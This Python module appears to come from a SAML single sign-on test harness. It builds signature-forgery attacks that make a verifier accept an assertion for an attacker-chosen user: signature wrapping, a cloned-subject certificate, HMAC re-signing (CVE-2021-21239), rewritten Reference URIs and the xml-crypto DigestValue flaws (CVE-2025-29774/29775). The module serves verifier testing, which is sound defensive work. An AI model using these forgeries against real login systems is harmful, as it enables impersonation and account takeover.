"""Attacks on the signature itself (catalogue rows S03-S09): who signed, what the Reference
names, how SignedInfo and DigestValue are read.

The IdP signs the real user; each attack makes a message naming ``value`` (the attacker's
choice of NameID) that a verifier assembling XML-DSig wrongly takes as signed. Rows that
change a signature act on the Assertion's before encryption and on the Response's after, so
they compose with any signing and encryption choice. ``reference-uri`` is the exception: the
IdP's own key signs a Reference that does not name its element (an IdP fault to refuse, not an
attacker's reach).
"""

from __future__ import annotations

import base64
import copy
import functools
import hmac
from collections.abc import Callable

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from lxml import etree

from ..keys import KeyPair
from . import constants as c
from .forgery import attacker_user, replace_payload, retarget, signed
from .mutation import (
    AssertionStep,
    Built,
    Draft,
    MutationContext,
    Mutator,
    MutatorParamError,
    Params,
    ResponseStep,
    str_param,
    with_protection,
    with_spec,
)
from .signature_parts import (
    c14n,
    ds,
    element_digest,
    own_signature,
    reference_digest_uri,
    sign_signed_info,
)
from .signing import SignatureChoice, sign_element
from .wrapping import SIGNED_ASSERTION, add_forged_assertion

_HMAC = {
    c.DIGEST_SHA1: (c.SIG_HMAC_SHA1, "sha1"),
    c.DIGEST_SHA256: (c.SIG_HMAC_SHA256, "sha256"),
    c.DIGEST_SHA512: (c.SIG_HMAC_SHA512, "sha512"),
}
DEFAULT_HMAC_KEY = "sso-harness-attacker-hmac-key"
EXTERNAL_REFERENCE = "https://attacker.example/signed.xml"
A_SIGNATURE = "a signed Response or Assertion"

# Changes an element's own signature so that a flawed verifier takes it as covering the
# element's current (forged) content.
Patch = Callable[[etree._Element, Params], None]


def _extra_assertion(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
    position = str_param(params, "position", "first")
    if position not in ("first", "last"):
        raise MutatorParamError("parameter 'position' must be first or last")
    return add_forged_assertion(built, params, ctx, first=position == "first", same_id=False)


def _duplicate_id(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
    return add_forged_assertion(built, params, ctx, first=True, same_id=True)


@functools.lru_cache(maxsize=8)
def cloned_certificate(original: x509.Certificate, key: KeyPair) -> x509.Certificate:
    """A certificate for ``key`` that copies ``original``'s subject, issuer, serial and validity:
    one that an SP matching certificates by name, not by key, would take for the IdP's."""
    return (
        x509.CertificateBuilder()
        .subject_name(original.subject)
        .issuer_name(original.issuer)
        .serial_number(original.serial_number)
        .not_valid_before(original.not_valid_before_utc)
        .not_valid_after(original.not_valid_after_utc)
        .public_key(key.private_key.public_key())
        .sign(key.private_key, hashes.SHA256())
    )


def _keyinfo_self_signed(draft: Draft, params: Params, ctx: MutationContext) -> Draft:
    attacker = ctx.attacker_key
    if attacker is None:
        raise MutatorParamError("keyinfo-self-signed needs an attacker key in the mutation context")
    protection = draft.protection
    if protection.key is None or not (protection.sign_assertion or protection.sign_response):
        return draft  # nothing is signed: nothing to sign with another key
    forged = KeyPair(attacker.private_key, cloned_certificate(protection.key.certificate, attacker))
    choice = protection.signature
    if choice.algorithm.startswith("ecdsa") != (attacker.key_type == "ec"):
        choice = SignatureChoice.for_algorithm(
            "ecdsa-sha256" if attacker.key_type == "ec" else "rsa-sha256"
        )
    draft = with_protection(draft, key=forged, include_certificate=True, signature=choice)
    return with_spec(draft, name_id=attacker_user(params))


def _on_assertion(patch: Patch) -> AssertionStep:
    def step(assertion: etree._Element, params: Params, ctx: MutationContext) -> etree._Element:
        if signed(assertion):
            retarget(assertion, attacker_user(params))
            patch(assertion, params)
        return assertion

    return step


def _on_response(patch: Patch) -> ResponseStep:
    def step(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
        response = built.response
        if not signed(response) or built.assertion is None:
            return response
        if not signed(built.assertion):  # protected by the Response's signature alone
            edited = copy.deepcopy(built.assertion)
            retarget(edited, attacker_user(params))
            replace_payload(response, built.seal(edited))
        patch(response, params)
        return response

    return step


def _signature(element: etree._Element) -> etree._Element:
    signature = own_signature(element)
    assert signature is not None
    return signature


def _hmac(element: etree._Element, params: Params) -> None:
    """Signed again with HMAC under the attacker's key, which KeyInfo carries the way xmlsec1
    reads it (CVE-2021-21239)."""
    key = str_param(params, "key", DEFAULT_HMAC_KEY).encode()
    signature = _signature(element)
    digest_uri = reference_digest_uri(signature)
    method_uri, hash_name = _HMAC.get(digest_uri, _HMAC[c.DIGEST_SHA256])
    signed_info, method = ds(signature, "SignedInfo"), ds(signature, "SignedInfo/SignatureMethod")
    digest, value = (
        ds(signature, "SignedInfo/Reference/DigestValue"),
        ds(signature, "SignatureValue"),
    )
    assert signed_info is not None and method is not None
    assert digest is not None and value is not None
    method.set("Algorithm", method_uri)
    digest.text = element_digest(element, digest_uri)
    mac = hmac.new(key, c14n(signed_info), hash_name).digest()
    value.text = base64.b64encode(mac).decode("ascii")
    old = ds(signature, "KeyInfo")
    if old is not None:
        signature.remove(old)
    key_info = etree.SubElement(signature, c.q(c.DS, "KeyInfo"))
    key_value = etree.SubElement(key_info, c.q(c.XMLSEC, "HMACKeyValue"), nsmap={None: c.XMLSEC})  # type: ignore[dict-item]
    key_value.text = base64.b64encode(key).decode("ascii")


def _digest_comment(element: etree._Element, params: Params) -> None:
    """CVE-2025-29775 (xml-crypto): the forged element's digest in a comment before the
    original DigestValue text. C14N drops the comment, so the SignatureValue still verifies; a
    verifier reading the DigestValue's first child node reads the forged digest."""
    signature = _signature(element)
    value = ds(signature, "SignedInfo/Reference/DigestValue")
    assert value is not None
    original = value.text
    comment = etree.Comment(element_digest(element, reference_digest_uri(signature)))
    value.text = None
    value.insert(0, comment)
    comment.tail = original


def _second_signed_info(element: etree._Element, params: Params) -> None:
    """CVE-2025-29774 (xml-crypto): a second SignedInfo whose Reference digests the forged
    element, after the untouched first one the SignatureValue was made over."""
    signature = _signature(element)
    signed_info = ds(signature, "SignedInfo")
    assert signed_info is not None
    extra = copy.deepcopy(signed_info)
    digest = extra.find(f"{c.q(c.DS, 'Reference')}/{c.q(c.DS, 'DigestValue')}")
    assert digest is not None
    digest.text = element_digest(element, reference_digest_uri(signature))
    signed_info.addnext(extra)


def _reference_for(to: str, other_id: str | None) -> str:
    if to == "empty":
        return ""
    if to == "external":
        return EXTERNAL_REFERENCE
    return f"#{other_id or ''}"


def _rewrite_reference(element: etree._Element, uri: str, key: KeyPair) -> None:
    """The IdP's key signs ``element`` (its digest over the element itself) with ``uri`` as
    the Reference URI."""
    signature = _signature(element)
    reference = ds(signature, "SignedInfo/Reference")
    digest = ds(signature, "SignedInfo/Reference/DigestValue")
    assert reference is not None and digest is not None
    reference.set("URI", uri)
    digest.text = element_digest(element, reference_digest_uri(signature))
    sign_signed_info(signature, key)


def _reference_uri(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
    to = str_param(params, "to", "other")
    if to not in ("empty", "other", "external"):
        raise MutatorParamError("parameter 'to' must be empty, other or external")
    response, protection = built.response, built.protection
    if protection is None or protection.key is None or built.assertion is None:
        return response
    edited = copy.deepcopy(built.assertion)
    retarget(edited, attacker_user(params))
    if signed(edited):
        _rewrite_reference(edited, _reference_for(to, response.get("ID")), protection.key)
        replace_payload(response, built.seal(edited))
        if signed(response):  # the IdP signs the envelope over what it now carries
            sign_element(
                response,
                protection.key,
                protection.signature,
                include_certificate=protection.include_certificate,
            )
    elif signed(response):
        replace_payload(response, built.seal(edited))
        _rewrite_reference(response, _reference_for(to, edited.get("ID")), protection.key)
    return response


SIGNATURE_MUTATORS: tuple[Mutator, ...] = (
    Mutator(
        "extra-assertion",
        "SDP-IDP10",
        "S03: the Response's signature removed; an unsigned assertion naming `value` (new ID) "
        "beside the signed one (`position`: first or last)",
        on_response=_extra_assertion,
        needs=SIGNED_ASSERTION,
    ),
    Mutator(
        "keyinfo-self-signed",
        "SAML-CORE-5.4.5",
        "S04: names `value`, signed with the attacker's key; KeyInfo carries a self-signed "
        "certificate copying the IdP certificate's subject, issuer and serial",
        _keyinfo_self_signed,
        uses_attacker_key=True,
        needs=A_SIGNATURE,
    ),
    Mutator(
        "hmac-signature",
        "SAML-CORE-5.4.5",
        "S05: names `value`; every signature made again as HMAC under the attacker's `key`, "
        "carried in KeyInfo (xmlsec1's HMACKeyValue)",
        on_assertion=_on_assertion(_hmac),
        on_response=_on_response(_hmac),
        needs=A_SIGNATURE,
    ),
    Mutator(
        "reference-uri",
        "SAML-CORE-5.4.2",
        "S06: names `value`; the IdP's key signs it with a Reference URI that is not the "
        "element's (`to`: empty, other or external); the Assertion's when signed, else the "
        "Response's",
        on_response=_reference_uri,
        needs=A_SIGNATURE,
    ),
    Mutator(
        "two-signed-info",
        "XMLDSIG-4",
        "S07 (CVE-2025-29774): names `value`; each signature keeps its SignedInfo and gains a "
        "second one digesting the forged element",
        on_assertion=_on_assertion(_second_signed_info),
        on_response=_on_response(_second_signed_info),
        needs=A_SIGNATURE,
    ),
    Mutator(
        "digest-comment",
        "XMLDSIG-4",
        "S08 (CVE-2025-29775): names `value`; each DigestValue starts with a comment holding "
        "the forged element's digest, the original text after it",
        on_assertion=_on_assertion(_digest_comment),
        on_response=_on_response(_digest_comment),
        needs=A_SIGNATURE,
    ),
    Mutator(
        "duplicate-id",
        "SAML-CORE-1.3.4",
        "S09: the Response's signature removed; an unsigned assertion naming `value` with the "
        "signed assertion's ID, before it",
        on_response=_duplicate_id,
        needs=SIGNED_ASSERTION,
    ),
)


__all__ = ["DEFAULT_HMAC_KEY", "SIGNATURE_MUTATORS", "cloned_certificate"]
